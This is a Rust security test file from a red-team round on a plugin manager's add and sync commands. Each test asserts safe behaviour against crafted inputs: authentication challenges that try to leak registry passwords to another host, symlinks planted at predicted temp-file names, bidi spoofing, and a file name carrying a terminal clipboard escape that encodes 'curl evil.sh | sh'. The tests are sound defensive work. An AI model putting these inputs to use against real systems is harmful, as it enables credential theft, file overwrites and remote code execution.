//! Second red team on plugin distribution (`cordon add`, `cordon sync`, `cordon push`): attacks
//! against the first round's fixes, with the hostile HTTP server of hostile_http.rs. Each test
//! asserts the safe behaviour.

use crate::hostile_http::*;
use crate::support::Workspace;
use base64::Engine as _;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};

fn basic(user: &str, password: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
}

/// Whether any request carried these Basic credentials.
fn carried(requests: &[Seen], user: &str, password: &str) -> bool {
    let encoded = basic(user, password);
    requests.iter().any(|r| {
        r.header("authorization")
            .is_some_and(|v| v.contains(&encoded) || v.contains(password))
    })
}

// ---------------------------------------------------------------------------------------------
// The token-realm check (checked_auth) against the challenge oci-client acts on.

/// A registry on loopback whose `/v2/` answers with `challenge(n)` (n = how many `/v2/` requests
/// came before), and a token service on this machine's outside address over plain HTTP. Runs
/// `cordon add` with docker-config credentials for the registry; returns whether the token service
/// received them.
fn realm_receives_password(
    challenge: impl Fn(usize, &str) -> Option<String> + Send + Sync + 'static,
) -> Option<(bool, String)> {
    let ip = outside_ip()?;
    let realm = Server::start(&SocketAddr::new(ip, 0).to_string(), |_| {
        ok(r#"{"token":"t"}"#, "application/json")
    });
    let realm_url = format!("http://{}/token", realm.addr);
    let probes = AtomicUsize::new(0);
    let registry = Server::start("127.0.0.1:0", move |request| {
        if request.path == "/v2/" {
            let n = probes.fetch_add(1, Ordering::SeqCst);
            match challenge(n, &realm_url) {
                Some(value) => status(401, &[("WWW-Authenticate", value.as_str())], "{}"),
                None => ok("{}", "application/json"),
            }
        } else {
            status(404, &[], "{}")
        }
    });
    let ws = Workspace::new();
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let out = ws.cordon_with_env(
        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    let leaked = carried(&realm.requests(), "alice", "alice-pw-123");
    Some((
        leaked,
        format!(
            "exit {}; stderr {}; realm saw {:?}",
            out.code,
            out.stderr,
            realm.requests()
        ),
    ))
}

#[test]
fn a_lowercase_bearer_challenge_does_not_slip_past_the_realm_check() {
    // checked_auth strips the prefix "Bearer" case-sensitively; oci-client matches the scheme
    // case-insensitively (RFC 7235) and sends the password to the realm.
    let Some((leaked, detail)) = realm_receives_password(|_, realm| {
        Some(format!("bearer realm=\"{realm}\",service=\"registry\""))
    }) else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    assert!(
        !leaked,
        "the password went in clear text to another host's token service: {detail}"
    );
}

#[test]
fn a_bearer_challenge_after_another_scheme_does_not_slip_past_the_realm_check() {
    // `Basic realm="x", Bearer realm="http://elsewhere"`: checked_auth sees no leading "Bearer";
    // oci-client's parser finds the Bearer challenge in the list.
    let Some((leaked, detail)) = realm_receives_password(|_, realm| {
        Some(format!(
            "Basic realm=\"registry\", Bearer realm=\"{realm}\",service=\"registry\""
        ))
    }) else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    assert!(
        !leaked,
        "the password went in clear text to another host's token service: {detail}"
    );
}

#[test]
fn a_second_realm_parameter_does_not_slip_past_the_realm_check() {
    // checked_auth reads the first `realm="`; oci-client keeps the last realm parameter.
    let Some((leaked, detail)) = realm_receives_password(|_, realm| {
        Some(format!(
            "Bearer realm=\"https://127.0.0.1:1/token\",service=\"registry\",realm=\"{realm}\""
        ))
    }) else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    assert!(
        !leaked,
        "the password went in clear text to another host's token service: {detail}"
    );
}

#[test]
fn a_realm_hidden_in_another_parameter_name_does_not_slip_past_the_realm_check() {
    // `xrealm="https://…"` contains `realm="`: checked_auth checks that, oci-client uses `realm`.
    let Some((leaked, detail)) = realm_receives_password(|_, realm| {
        Some(format!(
            "Bearer xrealm=\"https://127.0.0.1:1/token\",realm=\"{realm}\",service=\"registry\""
        ))
    }) else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    assert!(
        !leaked,
        "the password went in clear text to another host's token service: {detail}"
    );
}

#[test]
fn the_realm_check_and_the_sign_in_see_the_same_challenge() {
    // checked_auth probes GET /v2/ itself, then oci-client's auth() probes again: a registry that
    // answers the first probe with no challenge and the second with a plain-HTTP realm elsewhere.
    let Some((leaked, detail)) = realm_receives_password(|n, realm| {
        (n > 0).then(|| format!("Bearer realm=\"{realm}\",service=\"registry\""))
    }) else {
        eprintln!("no non-loopback address: skipped");
        return;
    };
    assert!(
        !leaked,
        "the password went in clear text to another host's token service: {detail}"
    );
}

#[test]
fn a_manifest_redirect_to_another_host_drops_basic_credentials() {
    // fetch_manifest sends Basic credentials itself with cordon's client; a 307 to another
    // loopback host must not carry them.
    let probe = component("fixture_probe");
    let body = manifest(&[(
        "application/wasm",
        &format!("sha256:{}", sha256(&probe)),
        probe.len() as i64,
    )]);
    let other = {
        let body = body.clone();
        Server::start("127.0.0.2:0", move |_| ok(body.clone(), MANIFEST_TYPE))
    };
    let location = format!("http://{}/v2/tools/probe/manifests/1", other.addr);
    let registry = Server::start("127.0.0.1:0", move |request| {
        if request.header("authorization").is_none() {
            status(401, &[("WWW-Authenticate", "Basic realm=\"r\"")], "{}")
        } else if request.path == "/v2/" {
            ok("{}", "application/json")
        } else if request.path.contains("/manifests/") {
            status(307, &[("Location", location.as_str())], "")
        } else {
            ok(probe.clone(), "application/octet-stream")
        }
    });
    let ws = Workspace::new();
    let docker = docker_config(&ws, &registry.addr.to_string(), "alice", "alice-pw-123");
    let _ = ws.cordon_with_env(
        &["add", &format!("oci://{}/tools/probe:1", registry.addr)],
        &[("DOCKER_CONFIG", docker.as_str())],
    );
    assert!(
        !carried(&other.requests(), "alice", "alice-pw-123"),
        "Basic credentials followed the manifest redirect: {:?}",
        other.requests()
    );
}

// ---------------------------------------------------------------------------------------------
// Where a reference's host goes.

#[test]
fn an_oci_host_without_a_dot_or_port_is_not_silently_docker_hub() {
    // The docs say oci://HOST/REPOSITORY, and cordon's own parsing takes the text before the first
    // '/' as the host; oci-client's Reference follows docker's rule instead (a first part with no
    // '.' or ':' that is not `localhost` is a repository on docker.io). `oci://registry/acme/x:1`,
    // meant for an internal host named `registry`, is then pulled from Docker Hub's acme... under
    // `registry/`: whoever owns that name on Docker Hub supplies the plugin. Observed through a
    // proxy, which sees which host cordon tunnels to.
    let proxy = Server::start("127.0.0.1:0", |_| status(403, &[], "no"));
    let ws = Workspace::new();
    let proxy_url = format!("http://{}", proxy.addr);
    let _ = ws.cordon_with_env(
        &["add", "oci://registry/acme/probe:1"],
        &[
            ("HTTPS_PROXY", proxy_url.as_str()),
            ("https_proxy", proxy_url.as_str()),
            ("ALL_PROXY", proxy_url.as_str()),
            ("NO_PROXY", ""),
            ("no_proxy", ""),
            ("DOCKER_CONFIG", ws.path().join("none").to_str().unwrap()),
        ],
    );
    let hosts: Vec<String> = proxy.requests().iter().map(|r| r.path.clone()).collect();
    assert!(
        !hosts.iter().any(|h| h.contains("docker.io")),
        "oci://registry/… was fetched from Docker Hub: the proxy saw {hosts:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// A tampered cordon.lock, replayed by `cordon sync`.

#[test]
fn sync_prints_no_terminal_escapes_from_the_lock() {
    // sync prints `NAME: installed from SOURCE` with the lock's source text on stdout, without the
    // sanitising errors get. A local path may hold any byte but '/' and NUL.
    let ws = Workspace::new();
    let probe = component("fixture_probe");
    let file = "x\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J.wasm";
    std::fs::write(ws.path().join(file), &probe).unwrap();
    write_lock(&ws, &[("probe", file, &sha256(&probe))], &[]);
    let out = ws.cordon(&["sync"]);
    assert!(
        !out.stdout.contains('\u{1b}') && !out.stdout.contains('\u{7}'),
        "cordon sync wrote the lock's escape sequences to the terminal (exit {}): {:?}",
        out.code,
        out.stdout
    );
}

#[test]
fn sync_does_not_install_an_unapproved_source_under_a_name_the_config_grants() {
    // The add-side fix (a name whose [plugins.NAME] already grants something) has no sync-side
    // twin: a lock that records [sources.probe] (any component) with no approval for it, in a repo
    // whose cordon.toml grants `probe`, gets that component installed under the granted name.
    let ws = Workspace::new().config("[plugins.probe]\nenv = [\"HOME\"]\nhook = true\n");
    let evil = component("guard");
    std::fs::write(ws.path().join("evil.wasm"), &evil).unwrap();
    write_lock(&ws, &[("probe", "evil.wasm", &sha256(&evil))], &[]);
    let out = ws.cordon(&["sync"]);
    assert!(
        !ws.plugin_path("probe").exists(),
        "cordon sync installed an unapproved component under a name cordon.toml grants env and hook to (exit {}): {}{}",
        out.code,
        out.stdout,
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Grants written in other TOML forms.

#[test]
fn grants_in_dotted_and_inline_forms_are_seen() {
    let probe = component("fixture_probe");
    for config in [
        "plugins.probe.env = [\"HOME\"]\n",
        "[plugins]\nprobe.env = [\"HOME\"]\n",
        "[plugins]\nprobe = { env = [\"HOME\"] }\n",
        "plugins = { probe = { env = [\"HOME\"] } }\n",
        "[plugins.\"probe\"]\nenv = [\"HOME\"]\n",
        "[plugins.'probe']\nenv = [\"HOME\"]\n",
    ] {
        let ws = Workspace::new().config(config);
        std::fs::write(ws.path().join("probe.wasm"), &probe).unwrap();
        let out = ws.cordon(&["add", "probe.wasm"]);
        assert_ne!(
            out.code, 0,
            "add installed under a name granted as {config:?}: {}",
            out.stdout
        );
        assert!(!ws.plugin_path("probe").exists(), "{config:?}");
    }
}

#[test]
fn an_add_that_fails_to_pin_leaves_no_plugin_behind() {
    // `plugins` as an inline table: pin_in_config fails after install_file already wrote
    // plugins/NAME.wasm, so add reports an error but leaves an unpinned, unlocked plugin.
    let ws = Workspace::new().config("plugins = { other = { sha256 = \"00\" } }\n");
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let out = ws.cordon(&["add", "probe.wasm"]);
    if out.code == 0 {
        return; // pinned in the inline table: fine
    }
    assert!(
        !ws.plugin_path("probe").exists(),
        "add failed ({}) but left plugins/probe.wasm installed",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Planted files where cordon writes.

#[test]
fn install_temp_files_cannot_be_planted_as_symlinks() {
    // install_file writes DIR/.NAME.PID.partial with std::fs::write, which follows a symlink, then
    // renames it over the target. A cloned repository (git stores symlinks) or another user of a
    // shared project directory plants `.probe.wasm.PID.partial` and `.cordon.toml.PID.partial`
    // for the next PIDs; cordon add then overwrites the link targets (cordon.toml's text into,
    // say, ~/.bashrc) and leaves plugins/probe.wasm a symlink.
    let ws = Workspace::new();
    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
    let victim_plugin = ws.path().join("victim-plugin.txt");
    let victim_config = ws.path().join("victim-config.txt");
    std::fs::write(&victim_plugin, "precious").unwrap();
    std::fs::write(&victim_config, "precious").unwrap();
    let read_number = |path: &str| -> u32 {
        std::fs::read_to_string(path)
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    };
    let last = read_number("/proc/sys/kernel/ns_last_pid");
    let pid_max = read_number("/proc/sys/kernel/pid_max");
    for offset in 1..=3000 {
        let pid = (last + offset) % pid_max;
        if pid < 2 {
            continue;
        }
        std::os::unix::fs::symlink(
            &victim_plugin,
            ws.path()
                .join("plugins")
                .join(format!(".probe.wasm.{pid}.partial")),
        )
        .unwrap();
        std::os::unix::fs::symlink(
            &victim_config,
            ws.path().join(format!(".cordon.toml.{pid}.partial")),
        )
        .unwrap();
    }
    let out = ws.cordon(&["add", "probe.wasm"]);
    let plugin_now = std::fs::read(&victim_plugin).unwrap();
    let config_now = std::fs::read(&victim_config).unwrap();
    assert!(
        plugin_now == b"precious" && config_now == b"precious",
        "cordon add followed planted temp-file symlinks (exit {}): plugin victim {} bytes, config victim {:?}",
        out.code,
        plugin_now.len(),
        String::from_utf8_lossy(&config_now)
    );
}

// ---------------------------------------------------------------------------------------------
// What reaches the terminal.

#[test]
fn a_registry_error_cannot_reorder_the_terminal_line_with_bidi_controls() {
    // without_controls drops Cc characters; U+202E (right-to-left override) and the isolates are
    // Cf and pass, so a registry's media type can display reversed text in the error line.
    let body = manifest(&[(
        "text/plain\u{202e}mptt.exe\u{2066}",
        &format!("sha256:{}", "a".repeat(64)),
        10,
    )]);
    let registry = registry(body, Vec::new());
    let ws = Workspace::new();
    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", registry.addr)]);
    assert_ne!(out.code, 0);
    let bidi = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
    assert!(
        !out.stderr.chars().any(bidi),
        "a registry's bidi controls reached the terminal: {:?}",
        out.stderr
    );
}
